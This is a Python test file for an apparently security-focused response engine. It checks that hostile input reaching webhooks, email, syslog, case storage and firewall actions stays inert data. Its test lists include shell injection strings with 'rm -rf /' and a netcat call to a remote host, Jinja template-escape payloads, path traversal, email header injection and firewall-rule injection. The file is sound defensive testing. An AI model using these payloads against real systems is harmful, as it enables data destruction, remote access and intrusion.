"""Values from the wire are data, never code.

Findings carry what an attacker sent (a rule name quoting a register, evidence with file names,
addresses that are not addresses). These tests feed hostile values through every action and
check, on what real endpoints received and on what would have run, that nothing leaks:
template syntax stays literal, shell metacharacters never reach a command, paths never leave
their folder, line breaks never make a new header or log line, oversized values are capped,
and a hostile playbook template cannot escape the sandbox."""

from __future__ import annotations

import email
import email.policy
import json

import pytest

from sentinel.respond import template
from sentinel.respond.settings import ActionSettings, EmailTarget, SyslogTarget, WebhookTarget

from .conftest import body_json, make_finding, playbook_from_text

HOSTILE = [
    "{{ 7*7 }}",
    "{% for x in range(10) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "$(reboot); rm -rf / `id` | nc 203.0.113.9 4444 && echo pwned",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "line1\r\nBcc: attacker@example.org\r\n\r\nbody",
    "<!channel> <@U123> @here @channel [click](http://evil.example/) <script>x</script>",
    "\x00\x1b[31mred\x1b[0m\u2028next",
    "A" * 100_000,
]


def _hostile_finding(value: str) -> dict:
    return make_finding(
        name=f"Write {value}",
        message=value,
        evidence={"file": value, "value": value},
        uid=value[:200],
    )


PLAYBOOK = """
id: all
name: all
trigger: {}
steps:
  - id: hook
    action: notify.webhook
    with: {target: soc, text: "{{ message }} / {{ sentinel.evidence.file }}"}
  - id: chat
    action: notify.webhook
    with: {target: chat, text: "{{ message }}"}
  - id: mail
    action: notify.email
    with: {target: soc, subject: "{{ rule.name }}", body: "{{ message }}"}
  - id: log
    action: notify.syslog
    with: {target: soc, message: "{{ message }}"}
  - id: case
    action: case.open
    with: {title: "{{ rule.name }}", group_by: [rule.name]}
"""


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_values_stay_data(value, harness, http_server, smtp_server, syslog_udp) -> None:
    actions = ActionSettings(
        webhooks={
            "soc": WebhookTarget(url=http_server.url, format="json"),
            "chat": WebhookTarget(url=http_server.url, format="slack"),
        },
        email={
            "soc": EmailTarget(
                host=smtp_server.host,
                port=smtp_server.port,
                sender="sentinel@example.org",
                to=["soc@example.org"],
                ca_certs=str(smtp_server.ca),
            )
        },
        syslog={"soc": SyslogTarget(host="127.0.0.1", port=syslog_udp.port)},
    )
    h = harness([playbook_from_text(PLAYBOOK)], actions)
    h.runner.finding(_hostile_finding(value))
    record = h.audit_records()[0]
    assert [s["status"] for s in record["steps"]] == ["ok"] * 5, record["steps"]

    # Webhook (JSON): the rendered text is the value itself, cleaned and capped, never evaluated.
    hook = body_json(http_server.requests[0])
    expected = template.clean(value)
    assert hook["text"] == f"{expected} / {expected}"
    assert "49" not in hook["text"] or "49" in value
    assert "xxxxxxxxxx" not in hook["text"]
    assert "<class" not in hook["text"]
    assert len(hook["text"]) <= 2 * (template.MAX_VALUE + 1) + 3
    assert all(c not in hook["text"] for c in "\r\n\x00\x1b\u2028")
    # The finding travels as data, unchanged (JSON escapes it).
    assert hook["finding"]["message"] == value

    # Slack: no mention, link or markup survives.
    slack = body_json(http_server.requests[1])["blocks"][0]["text"]["text"]
    assert "<!channel>" not in slack and "<@U123>" not in slack and "<script>" not in slack

    # Mail: one Subject, no injected Bcc header, no extra recipient.
    (msg,) = smtp_server.messages
    assert msg["to"] == ["soc@example.org"]
    parsed = email.message_from_bytes(msg["data"], policy=email.policy.default)
    assert parsed.get_all("Bcc") is None
    assert len(parsed.get_all("Subject")) == 1
    assert "\n" not in parsed["Subject"] and len(parsed["Subject"]) <= 201

    # Syslog: exactly one line, structured data intact.
    assert syslog_udp.event.wait(5)
    line = syslog_udp.messages[0].decode("utf-8")
    assert "\n" not in line and "\r" not in line
    assert line.count("[sentinel@32473 ") == 1
    assert len(line.encode()) <= 8192

    # Case: the id is a hash, the JSONL store's file name is fixed.
    files = sorted(p.name for p in (h.state / "documents").iterdir())
    assert files == ["sentinel-cases.jsonl"]
    case = json.loads((h.state / "documents" / "sentinel-cases.jsonl").read_text())
    assert len(case["_id"]) == 24 and all(c in "0123456789abcdef" for c in case["_id"])


BLOCK = """
id: block
name: block
trigger: {}
steps:
  - id: block
    action: firewall.block
    with: {address: "{{ source.ip }}"}
  - id: tag
    action: asset.tag
    with: {address: "{{ source.ip }}", tags: [suspect]}
  - id: snap
    action: capture.snapshot
"""


@pytest.mark.parametrize(
    "address",
    [
        "198.51.100.66; rm -rf /",
        "198.51.100.66 } ; flush ruleset ; {",
        "$(id)",
        "../../etc/passwd",
        "198.51.100.666",
        "",
        "A" * 10_000,
        "198.51.100.66/0",
    ],
)
def test_hostile_addresses_are_refused_before_any_command(address, harness) -> None:
    h = harness([playbook_from_text(BLOCK)], ActionSettings(allow_network_changes=True))
    doc = make_finding(src=address if address else "x")
    doc["source"]["ip"] = address
    h.runner.finding(doc)
    steps = {s["step"]: s for s in h.audit_records()[0]["steps"]}
    assert steps["block"]["status"] == "refused"
    assert steps["block"]["plan"] is None  # no command was ever built
    assert steps["tag"]["status"] == "refused"
    assert steps["snap"]["status"] == "refused"
    assert "is not an IP address" in steps["block"]["error"]
    assert len(steps["block"]["error"]) < 200
    assert h.approvals.list(None) == []
    # Each refusal is a finding of its own.
    assert {f["sentinel"]["evidence"]["step"] for f in h.emitted} == {"block", "tag", "snap"}


def test_hostile_tag_is_refused(harness) -> None:
    pb = playbook_from_text(
        "id: t\nname: t\ntrigger: {}\nsteps:\n  - id: tag\n    action: asset.tag\n"
        "    with: {address: '{{ destination.ip }}', tags: ['{{ message }}']}\n"
    )
    h = harness([pb])
    h.runner.finding(make_finding(message="../../x; rm"))
    step = h.audit_records()[0]["steps"][0]
    assert step["status"] == "failed" and "is not a valid tag" in step["error"]
    assert not (h.state / "documents").exists()


def test_sandbox_stops_a_hostile_playbook_template(harness, http_server) -> None:
    pb = playbook_from_text(
        """
id: evil
name: evil
trigger: {}
steps:
  - id: hook
    action: notify.webhook
    with:
      target: soc
      text: "{{ finding.__class__.__mro__[1].__subclasses__() }}"
"""
    )
    h = harness([pb], ActionSettings(webhooks={"soc": WebhookTarget(url=http_server.url)}))
    h.runner.finding(make_finding())
    step = h.audit_records()[0]["steps"][0]
    assert step["status"] == "failed"
    assert "unsafe" in step["error"] or "not safely" in step["error"]
    assert http_server.requests == []


def test_templates_have_no_globals() -> None:
    out = template.render("{{ range }}{{ lipsum }}{{ cycler }}{{ dict }}", {})
    assert out == ""
